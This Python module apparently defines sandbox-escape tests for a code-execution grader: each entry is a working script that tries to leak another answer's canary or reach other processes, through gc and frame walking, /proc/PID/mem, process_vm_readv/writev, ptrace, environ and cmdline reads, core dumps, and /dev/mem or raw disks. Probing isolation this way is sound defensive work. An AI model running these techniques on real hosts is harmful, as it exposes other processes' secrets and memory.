"""The text of other answers, in the memory of this process and of others."""

from __future__ import annotations

from .attack import Attack

# Somebody else's answer: its text holds a canary. It stays a moment where it is to be attacked while it runs.
VICTIM = 'SOLUTION = "@PREVIOUS@"\ndef solve(n):\n    return n + len(SOLUTION)'
WAITING_VICTIM = 'SOLUTION = "@PREVIOUS@"\ndef solve(n):\n    time.sleep(0.9)\n    return len(SOLUTION)'

_MAPS = """
def maps(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, mode, *rest = line.split()
        if mode[0] == "r" and "[v" not in line:
            start, end = (int(x, 16) for x in span.split("-"))
            yield start, min(end, start + (64 << 20))
"""

_READV = """
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def read_memory(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    here, there = Span(ctypes.addressof(buffer), length), Span(address, length)
    got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return buffer.raw[:got]
"""

ATTACKS = (
    Attack(
        "garbage-collector",
        "Searches every object that the collector knows for the text of the answer before.",
        """
import gc
def attack():
    for item in gc.get_objects():
        try:
            got = canary_in(repr(item)) if isinstance(item, (dict, list, tuple, set)) else None
        except Exception:
            continue
        if got:
            return got
    return "nothing"
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "frames",
        "Walks the frames below its own and prints their locals and globals.",
        """
def attack():
    frame = sys._getframe()
    while frame:
        got = canary_in(repr(frame.f_locals) + repr(frame.f_globals))
        if got:
            return got
        frame = frame.f_back
    return "nothing"
""",
        before=VICTIM,
    ),
    Attack(
        "modules",
        "Looks through every loaded module, the line cache and the last traceback.",
        """
import linecache
def attack():
    for name, module in list(sys.modules.items()):
        for key, value in list(vars(module).items()):
            got = isinstance(value, (str, bytes, dict, list, tuple)) and canary_in(repr(value)[:200000])
            if got:
                return f"{name}.{key} {got}"
    return canary_in(repr(linecache.cache) + repr(getattr(sys, "last_value", "")))
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "own-memory",
        "Reads all memory that this process was forked with, page by page.",
        _MAPS
        + """
def attack():
    for start, end in maps("self"):
        got = canary_in(ctypes.string_at(start, end - start))
        if got:
            return got
    return "nothing"
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "own-memory-without-maps",
        "Reads the memory around its own objects with process_vm_readv, without asking /proc where that is.",
        _READV
        + """
def attack():
    def scan(anchor):
        for address in range((anchor & ~0xFFFFF) - (48 << 20), anchor + (48 << 20), 1 << 20):
            try:
                data = read_memory(os.getpid(), address, 1 << 20)
            except OSError as error:
                if error.errno == 1:
                    raise
                continue
            got = canary_in(data)
            if got:
                return got
        return None
    return first([lambda: scan(id(object())), lambda: scan(id(sys)), lambda: scan(id(bytearray(1 << 22)))])
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "freed-memory",
        "Allocates memory without clearing it and reads what was there.",
        """
libc.malloc.restype = ctypes.c_void_p
def attack():
    for size in [48, 100, 300, 1000, 3000, 9000, 30000, 100000, 1000000]:
        for _ in range(300):
            got = canary_in(ctypes.string_at(libc.malloc(ctypes.c_size_t(size)), size))
            if got:
                return got
    return "nothing"
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "own-proc-mem",
        "Reads /proc/self/mem where ctypes is forbidden.",
        _MAPS
        + """
def attack():
    memory = open("/proc/self/mem", "rb", 0)
    for start, end in maps("self"):
        memory.seek(start)
        try:
            got = canary_in(memory.read(end - start))
        except OSError:
            continue
        if got:
            return got
    return "nothing"
""",
        before=VICTIM,
        calls=2,
    ),
    Attack(
        "memory-of-all-processes",
        "Reads /proc/PID/mem of the server, of init, of the owner and of every process it can name.",
        _MAPS
        + """
def attack():
    def scan(pid):
        spans = list(maps(pid))
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for start, end in spans[:400]:
            memory.seek(start)
            try:
                got = canary_in(memory.read(end - start))
            except OSError:
                continue
            if got:
                return got
        return f"ESCAPED: read the memory of {pid}"
    return first([lambda p=p: scan(p) for p in pids()])
""",
        before=VICTIM,
        calls=2,
        teeth=True,
    ),
    Attack(
        "process-vm-readv",
        "Reads the memory of other processes with process_vm_readv at the addresses of its own objects.",
        _READV
        + """
def attack():
    address = id(sys) & ~0xFFF
    return first([lambda p=p: read_memory(p, address, 4096) and f"ESCAPED: read the memory of {p}" for p in pids()])
""",
        before=VICTIM,
        calls=2,
        teeth=True,
    ),
    Attack(
        "process-vm-writev",
        "Writes into the memory of the server.",
        _READV
        + """
def attack():
    def poke(pid):
        text = ctypes.create_string_buffer(b"x", 1)
        here, there = Span(ctypes.addressof(text), 1), Span(id(poke) & ~0xFFF, 1)
        if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "writev")
        return f"ESCAPED: wrote to {pid}"
    return first([lambda: poke(os.getppid()), lambda: poke(@OWNER@)])
""",
    ),
    Attack(
        "ptrace-attach",
        "Attaches to the server and to every process as a debugger.",
        """
def attack():
    def trace(pid):
        syscall(101, 16, pid, 0, 0)
        syscall(101, 17, pid, 0, 0)
        return f"ESCAPED: traced {pid}"
    return first([lambda p=p: trace(p) for p in pids()])
""",
    ),
    Attack(
        "ptrace-seize",
        "Seizes the server without stopping it, which older filters forget.",
        """
def attack():
    return first([lambda p=p: f"ESCAPED: {syscall(101, 0x4206, p, 0, 0)}" for p in pids()])
""",
    ),
    Attack(
        "process-lists",
        "Reads command line, environment, working directory, open files and maps of every process.",
        """
def attack():
    def look(pid):
        environment = open(f"/proc/{pid}/environ", "rb").read()
        return canary_in(environment) or environment and f"ESCAPED: environment of {pid}"
    def files(pid):
        return [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")] and f"ESCAPED: files of {pid}"
    return first([lambda p=p: look(p) for p in pids()] + [lambda p=p: files(p) for p in pids()])
""",
        teeth=True,
    ),
    Attack(
        "command-lines",
        "Reads the command lines of processes that are not its own family, where secrets like to stand.",
        """
def attack():
    for pid in pids():
        try:
            got = canary_in(open(f"/proc/{pid}/cmdline", "rb").read())
        except OSError:
            continue
        if got:
            return got
    return "nothing"
""",
    ),
    Attack(
        "core-dump",
        "Crashes with its text in memory, and a later answer looks for the core file.",
        """
SECRET = "left-in-core"
def attack():
    import resource
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    os.abort()
""",
        then="""
import glob
def attack():
    cores = [p for d in ("/tmp", "/var/crash", "/var/lib/systemd/coredump", ".", "/") for p in glob.glob(d + "/*core*")]
    return [p for p in cores if os.path.isfile(p)] and f"ESCAPED: {cores}"
""",
        calls=2,
    ),
    Attack(
        "answer-that-runs-beside",
        "Hunts another answer that runs at this moment, through /proc and process_vm_readv.",
        _MAPS
        + _READV
        + """
def attack():
    def scan(pid):
        for start, end in list(maps(pid))[:300]:
            try:
                got = canary_in(read_memory(pid, start, end - start))
            except OSError:
                continue
            if got:
                return got
        return None
    deadline = time.monotonic() + 0.3
    while time.monotonic() < deadline:
        got = first([lambda p=p: scan(p) for p in pids()])
        if canary_in(got):
            return got
    return got
""",
        beside=WAITING_VICTIM,
        calls=2,
    ),
    Attack(
        "files-of-the-answer-beside",
        "Opens the private working directory of another answer through /proc/PID/cwd and /proc/PID/root.",
        """
def attack():
    def look(pid, link):
        return os.listdir(f"/proc/{pid}/{link}") and f"ESCAPED: {link} of {pid}"
    return first([lambda p=p, link=link: look(p, link) for p in pids() for link in ("cwd", "root")])
""",
        beside="""
def solve(n):
    open("notes", "w").write("@PREVIOUS@")
    time.sleep(0.9)
    return 1
""",
        calls=2,
        teeth=True,
    ),
    Attack(
        "kernel-memory",
        "Reads physical and kernel memory and raw disks through their device files.",
        """
def attack():
    def look(path):
        return os.pread(os.open(path, os.O_RDONLY), 64, 0) and "ESCAPED: read " + path
    paths = ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1",
             "/dev/fuse", "/dev/loop0", "/proc/kmsg", "/proc/kallsyms", "/dev/disk0"]
    return first([lambda p=p: look(p) for p in paths])
""",
        teeth=True,
    ),
    Attack(
        "own-heap-through-a-pipe",
        "Has the kernel copy its own heap into a pipe, page by page, in search of what an earlier answer returned.",
        """
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
libc.sbrk.restype = ctypes.c_void_p
def attack():
    read, write = os.pipe()
    top, arenas = libc.sbrk(ctypes.c_long(0)), id(object()) & ~0xFFF
    for start, end in (((top & ~0xFFF) - (16 << 20), top), (arenas - (8 << 20), arenas + (8 << 20))):
        for address in range(start, end, 4096):
            if libc.write(write, address, 4096) > 0:
                got = canary_in(os.read(read, 4096))
                if got:
                    return got
    return "nothing"
""",
        before='SOLUTION = "@PREVIOUS@"\ndef solve(n):\n    return SOLUTION * (1 + 7 * n)',
        calls=2,
    ),
)
